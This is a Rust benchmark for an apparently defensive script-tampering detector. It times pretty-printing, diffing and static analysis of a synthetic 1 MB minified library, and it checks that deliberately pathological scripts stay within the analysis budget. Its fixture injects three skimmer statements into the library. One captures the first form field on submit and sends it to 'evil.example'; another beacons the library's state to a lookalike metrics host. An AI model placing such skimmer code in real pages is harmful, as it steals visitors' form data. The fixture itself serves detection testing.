//! Benchmark: time to pretty-print and diff a 1 MB minified script with a few injected
//! statements (what an `altered_script` finding costs), plus the static hints on it, and the
//! same steps on 1 MB hostile scripts (one long string concatenation, deep nesting) next to
//! their budget (`inventory::budget`): they must be refused quickly, not crash or stall.
//!
//! `cargo bench --bench diff` prints the figures; nothing is asserted (see the project's
//! standards: performance is measured, not asserted in tests).

use skimwatch::compare::{diff as pretty, hints};
use skimwatch::inventory::{budget, normalize};
use std::time::{Duration, Instant};

/// A deterministic, realistic-looking minified library of about `target` bytes: one line of
/// short-named functions, object literals, string tables and calls, like a bundler's output.
fn minified_library(target: usize) -> String {
    let mut out = String::from("/*! acme.js v3.2.1 | MIT */!function(w,d){\"use strict\";var M={};");
    let mut seed: u64 = 0x5EED_1234_ABCD_0001;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let mut i = 0usize;
    while out.len() < target {
        let r = next();
        let (a, b, c) = (format!("a{i}"), format!("b{}", r % 97), format!("c{}", (r >> 8) % 89));
        match r % 5 {
            0 => out.push_str(&format!("function {a}({b},{c}){{var t={b}+{c}*{};if(t>{})return M.f{}(t);for(var k=0;k<{b}.length;k++)t^={b}.charCodeAt(k);return t}}", r % 13, r % 1000, i / 3)),
            1 => out.push_str(&format!("M.f{i}=function({b}){{return d.querySelectorAll(\"[data-{a}]\").length+{b}}};")),
            2 => out.push_str(&format!("var {a}={{id:\"{:x}\",n:{},on:!{},tags:[\"x{}\",\"y{}\"]}};", r, r % 10000, r % 2, r % 7, r % 11)),
            3 => out.push_str(&format!("w.addEventListener(\"e{}\",function({b}){{M.f{}&&M.f{}({b}.detail)}},!1);", r % 50, i / 2, i / 2)),
            _ => out.push_str(&format!("{a}=M.f{}?M.f{}({}):null;", i / 4, i / 4, r % 321)),
        }
        i += 1;
    }
    out.push_str("w.acme=M}(window,document);");
    out
}

/// The same library with a skimmer's statements injected at three places.
fn injected(lib: &str) -> String {
    let mut s = lib.to_string();
    let payloads = [
        "document.addEventListener(\"submit\",function(){var f=document.forms[0];new Image().src=\"https://evil.example/c?d=\"+btoa(f.elements[0].value)},!0);",
        "M.q=function(){return navigator.sendBeacon(\"https://cdn-metrics.example/b\",JSON.stringify(M))};",
        "setTimeout(M.q,3000);",
    ];
    for (n, p) in payloads.iter().enumerate() {
        // At ~25 %, 50 %, 75 % of the file, just after a statement.
        let mut at = s.len() * (n + 1) / 4;
        while !s.is_char_boundary(at) || !s[..at].ends_with(';') {
            at += 1;
        }
        s.insert_str(at, p);
    }
    s
}

fn time<T>(runs: u32, mut f: impl FnMut() -> T) -> (Duration, T) {
    let mut best = Duration::MAX;
    let mut last = None;
    for _ in 0..runs {
        let start = Instant::now();
        let out = f();
        best = best.min(start.elapsed());
        last = Some(out);
    }
    (best, last.expect("at least one run"))
}

fn main() {
    let old = minified_library(1 << 20);
    let new = injected(&old);
    // `cargo bench` passes --bench; under `cargo test --all-targets` this is a one-run smoke test.
    let runs = if std::env::args().any(|a| a == "--bench") { 5 } else { 1 };
    let _warm_up = pretty::diff_scripts(&old, &new, "approved", "current");
    let (t_pretty, printed) = time(runs, || pretty::pretty_js(&new));
    let (t_diff, diff) = time(runs, || pretty::diff_scripts(&old, &new, "approved", "current"));
    let (t_hints, analysis) = time(runs, || hints::analyze(Some(&old), &new));
    let (t_norm, _) = time(runs, || normalize::normalize(&new));
    let plus = diff.lines().filter(|l| l.starts_with('+') && !l.starts_with("+++")).count();
    println!("script: {} bytes minified on 1 line -> {} pretty-printed lines", new.len(), printed.lines().count());
    println!("best of {runs} runs (release build recommended: cargo bench --bench diff)");
    println!("  pretty-print current version          {:>8.1} ms", t_pretty.as_secs_f64() * 1e3);
    println!(
        "  pretty-print both + unified diff      {:>8.1} ms   <- the issue's figure (one altered_script finding)",
        t_diff.as_secs_f64() * 1e3
    );
    println!("  static hints + added hosts (both)     {:>8.1} ms", t_hints.as_secs_f64() * 1e3);
    println!("  normalized hash (data literals masked) {:>7.1} ms", t_norm.as_secs_f64() * 1e3);
    println!(
        "diff: {} lines, {plus} added; hints: {:?}; added hosts: {:?}",
        diff.lines().count(),
        analysis.hints,
        analysis.added_hosts
    );
    hostile(runs);
}

/// Every analysis step on 1 MB hostile scripts, timed against the analysis time budget.
fn hostile(runs: u32) {
    let mib = 1 << 20;
    let concat = format!("var x=\"a\"{};", "+\"a\"".repeat(mib / 4));
    let arrays = format!("var x={}1{};", "[".repeat(mib / 2), "]".repeat(mib / 2));
    let functions = format!("{}{}", "function f(){".repeat(mib / 14), "}".repeat(mib / 14));
    println!(
        "hostile scripts (budget per step: {} s, {} bytes, nesting {}):",
        budget::ANALYSIS_TIME.as_secs(),
        budget::MAX_ANALYSIS_BYTES,
        budget::MAX_NESTING
    );
    for (name, src) in [("string concatenation", &concat), ("nested arrays", &arrays), ("nested functions", &functions)]
    {
        let (t, outcome) = time(runs, || {
            let n = normalize::normalize_checked(src).err();
            let h = hints::analyze(Some("var x=1;"), src);
            let d = pretty::diff_scripts("var x=1;", src, "approved", "current");
            (n, h.hints.len(), d.len())
        });
        let verdict = if t < budget::ANALYSIS_TIME { "within budget" } else { "OVER BUDGET" };
        let why = outcome.0.map_or("analysed".to_string(), |r| r.to_string());
        println!(
            "  {name:<22} {:>7} KB  normalize + hints + diff {:>8.1} ms  {verdict}: {why}",
            src.len() / 1024,
            t.as_secs_f64() * 1e3
        );
    }
}
